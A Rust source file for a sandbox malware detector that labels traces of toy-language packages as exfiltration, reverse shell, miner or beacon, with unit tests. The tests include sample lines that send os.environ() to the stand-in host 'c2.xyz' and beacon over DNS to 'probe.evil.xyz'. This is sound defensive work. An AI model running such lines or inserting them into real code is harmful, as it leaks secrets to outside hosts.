//! The sandbox (dynamic) detector: execute the package in the
//! effect-tracing interpreter and match behaviour signatures on the
//! trace — flows, not syntax.

use minilang::interp::{execute, InterpConfig, Outcome, Trace};
use minilang::lower::Program;
use minilang::Module;
use std::fmt;

/// A behaviour family inferred from an effect trace.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum BehaviorLabel {
    /// Sensitive read (env/credentials) followed by a network send.
    Exfiltration,
    /// Network fetch followed by process execution.
    DownloadExecute,
    /// Socket connection feeding a process.
    ReverseShell,
    /// Clipboard read/write loop.
    ClipboardHijack,
    /// Miner launch (stratum endpoint + subprocess).
    CryptoMiner,
    /// `eval` of network-derived data.
    RemoteEval,
    /// Hostname/user beacons over DNS.
    Beacon,
    /// Nothing malicious observed.
    Clean,
}

impl BehaviorLabel {
    /// Everything except [`BehaviorLabel::Clean`].
    pub const MALICIOUS: [BehaviorLabel; 7] = [
        BehaviorLabel::Exfiltration,
        BehaviorLabel::DownloadExecute,
        BehaviorLabel::ReverseShell,
        BehaviorLabel::ClipboardHijack,
        BehaviorLabel::CryptoMiner,
        BehaviorLabel::RemoteEval,
        BehaviorLabel::Beacon,
    ];
}

impl fmt::Display for BehaviorLabel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            BehaviorLabel::Exfiltration => "exfiltration",
            BehaviorLabel::DownloadExecute => "download-execute",
            BehaviorLabel::ReverseShell => "reverse-shell",
            BehaviorLabel::ClipboardHijack => "clipboard-hijack",
            BehaviorLabel::CryptoMiner => "cryptominer",
            BehaviorLabel::RemoteEval => "remote-eval",
            BehaviorLabel::Beacon => "beacon",
            BehaviorLabel::Clean => "clean",
        })
    }
}

/// Result of a sandbox run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DynamicVerdict {
    /// Behaviour labels observed (possibly several).
    pub labels: Vec<BehaviorLabel>,
    /// The raw API set, for forensics.
    pub apis: Vec<String>,
}

impl DynamicVerdict {
    /// Whether any malicious behaviour was observed.
    pub fn malicious(&self) -> bool {
        self.labels.iter().any(|l| *l != BehaviorLabel::Clean)
    }
}

/// The sandbox detector.
#[derive(Debug, Clone)]
pub struct DynamicDetector {
    config: InterpConfig,
}

impl DynamicDetector {
    /// Creates a detector with the given fuel budget.
    pub fn new(fuel: u64) -> Self {
        DynamicDetector {
            config: InterpConfig { fuel },
        }
    }

    /// Runs a module in the sandbox and labels the trace.
    pub fn analyze(&self, module: &Module) -> DynamicVerdict {
        self.analyze_program(&Program::lower(module))
    }

    /// Runs an already lowered module in the sandbox and labels the
    /// trace. A run a budget stopped bumps
    /// `detector.sandbox_stops{reason=fuel|memory|depth}`; every run adds
    /// its steps to `detector.sandbox_steps{kind=executed|skipped}`.
    pub fn analyze_program(&self, program: &Program) -> DynamicVerdict {
        let trace = execute(program, &self.config);
        obs::counter_add(
            "detector.sandbox_steps{kind=executed}",
            trace.steps - trace.skipped_steps,
        );
        obs::counter_add("detector.sandbox_steps{kind=skipped}", trace.skipped_steps);
        let stop = match trace.outcome {
            Outcome::FuelExhausted => Some("detector.sandbox_stops{reason=fuel}"),
            Outcome::MemoryExhausted => Some("detector.sandbox_stops{reason=memory}"),
            Outcome::DepthExceeded => Some("detector.sandbox_stops{reason=depth}"),
            Outcome::Completed | Outcome::Error => None,
        };
        if let Some(counter) = stop {
            obs::counter_add(counter, 1);
        }
        let labels = label_trace(&trace);
        DynamicVerdict {
            labels,
            apis: trace.apis().iter().map(|a| a.to_string()).collect(),
        }
    }

    /// Parses and analyzes source text; unparseable code yields a clean
    /// verdict (a real sandbox would flag it for manual review).
    pub fn analyze_source(&self, source: &str) -> DynamicVerdict {
        match minilang::parse(source) {
            Ok(module) => self.analyze(&module),
            Err(_) => DynamicVerdict {
                labels: vec![BehaviorLabel::Clean],
                apis: Vec::new(),
            },
        }
    }
}

impl Default for DynamicDetector {
    fn default() -> Self {
        DynamicDetector::new(InterpConfig::default().fuel)
    }
}

/// Matches behaviour signatures against an effect trace.
pub fn label_trace(trace: &Trace) -> Vec<BehaviorLabel> {
    let mut labels = Vec::new();
    // One pass over the trace collects every API signature flag at once,
    // reading each distinct API once: a fuel-capped beacon loop records
    // the same few thousand times.
    let effects = &trace.effects;
    let mut seen = vec![false; effects.api_count()];
    let mut sends = false;
    let mut fetches = false;
    let mut sensitive_read = false;
    let mut spawns = false;
    let mut socketed = false;
    let mut dns = false;
    let mut clip_read = false;
    let mut clip_write = false;
    let mut evals = false;
    for e in effects.iter() {
        if std::mem::replace(&mut seen[e.api_id().index()], true) {
            continue;
        }
        let api = e.api();
        sends |= api.starts_with("requests.post");
        fetches |= api.starts_with("requests.get");
        sensitive_read |= api.starts_with("os.environ")
            || api.starts_with("os.getenv")
            || api.starts_with("glob.glob")
            || api.starts_with("os.read_file");
        spawns |= api.starts_with("subprocess.");
        socketed |= api.starts_with("socket.socket");
        dns |= api.starts_with("socket.gethostbyname");
        clip_read |= api.starts_with("clipboard.paste");
        clip_write |= api.starts_with("clipboard.copy");
        evals |= api.starts_with("eval");
    }
    // Only a fetch-and-spawn trace needs the argument previews.
    let miner_hint = || {
        effects
            .iter()
            .any(|e| e.arg_previews().iter().any(|a| a.contains("stratum://")))
    };

    if sensitive_read && sends {
        labels.push(BehaviorLabel::Exfiltration);
    }
    if fetches && spawns && miner_hint() {
        labels.push(BehaviorLabel::CryptoMiner);
    } else if fetches && spawns {
        labels.push(BehaviorLabel::DownloadExecute);
    }
    if socketed && spawns {
        labels.push(BehaviorLabel::ReverseShell);
    }
    if clip_read && clip_write {
        labels.push(BehaviorLabel::ClipboardHijack);
    }
    if evals && fetches {
        labels.push(BehaviorLabel::RemoteEval);
    }
    if dns {
        labels.push(BehaviorLabel::Beacon);
    }
    if labels.is_empty() {
        labels.push(BehaviorLabel::Clean);
    }
    labels
}

/// The expected dynamic label for each generator behaviour family, used
/// by the evaluation harness and tests.
pub fn expected_label(behavior: minilang::gen::Behavior) -> BehaviorLabel {
    use minilang::gen::Behavior;
    match behavior {
        Behavior::ExfilEnv | Behavior::ExfilAws | Behavior::InfoStealer => {
            BehaviorLabel::Exfiltration
        }
        Behavior::DownloadExecute => BehaviorLabel::DownloadExecute,
        Behavior::ReverseShell => BehaviorLabel::ReverseShell,
        Behavior::ClipboardHijack => BehaviorLabel::ClipboardHijack,
        Behavior::CryptoMiner => BehaviorLabel::CryptoMiner,
        Behavior::Backdoor => BehaviorLabel::RemoteEval,
        Behavior::DnsBeacon => BehaviorLabel::Beacon,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::gen::{generate, generate_benign, Behavior};
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn labels_match_generated_behaviors() {
        let detector = DynamicDetector::default();
        let mut rng = StdRng::seed_from_u64(1);
        for behavior in Behavior::ALL {
            let mut correct = 0;
            for _ in 0..8 {
                let module = generate(behavior, &mut rng);
                let verdict = detector.analyze(&module);
                if verdict.labels.contains(&expected_label(behavior)) {
                    correct += 1;
                }
            }
            assert!(
                correct >= 6,
                "{behavior}: expected label {} found only {correct}/8 times",
                expected_label(behavior)
            );
        }
    }

    #[test]
    fn benign_code_is_clean() {
        let detector = DynamicDetector::default();
        let mut rng = StdRng::seed_from_u64(2);
        for _ in 0..30 {
            let module = generate_benign(&mut rng);
            let verdict = detector.analyze(&module);
            assert!(
                !verdict.malicious(),
                "benign module labeled {:?}",
                verdict.labels
            );
        }
    }

    #[test]
    fn unparseable_source_is_clean_not_fatal() {
        let verdict = DynamicDetector::default().analyze_source(":::");
        assert!(!verdict.malicious());
    }

    #[test]
    fn apis_are_reported_for_forensics() {
        let detector = DynamicDetector::default();
        let module = minilang::parse(
            "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
        )
        .unwrap();
        let verdict = detector.analyze(&module);
        assert!(verdict.malicious());
        assert!(verdict.apis.iter().any(|a| a == "requests.post"));
        assert!(verdict.apis.iter().any(|a| a == "os.environ"));
    }

    #[test]
    fn budget_stops_are_counted_by_reason() {
        obs::reset();
        obs::enable();
        let detector = DynamicDetector::new(400);
        for src in [
            "while True:\n    pass\n",
            "s = 'ab'\nwhile True:\n    s = s + s\n",
            "def f():\n    f()\n\nf()\n",
        ] {
            assert!(!detector.analyze_source(src).malicious(), "{src:?}");
        }
        let snap = obs::snapshot();
        obs::disable();
        let count = |reason: &str| {
            let name = format!("detector.sandbox_stops{{reason={reason}}}");
            snap.counters
                .iter()
                .find(|(n, _)| *n == name)
                .map_or(0, |(_, v)| *v)
        };
        // Other tests in this crate may run fuel-capped loops meanwhile;
        // none hits the other two budgets.
        assert!(count("fuel") >= 1);
        assert_eq!(count("memory"), 1);
        assert_eq!(count("depth"), 1);
    }

    #[test]
    fn beacon_loops_are_caught_despite_fuel_exhaustion() {
        let detector = DynamicDetector::new(400);
        let module = minilang::parse(
            "import socket\nwhile True:\n    socket.gethostbyname('probe.evil.xyz')\n",
        )
        .unwrap();
        let verdict = detector.analyze(&module);
        assert!(verdict.labels.contains(&BehaviorLabel::Beacon));
    }
}
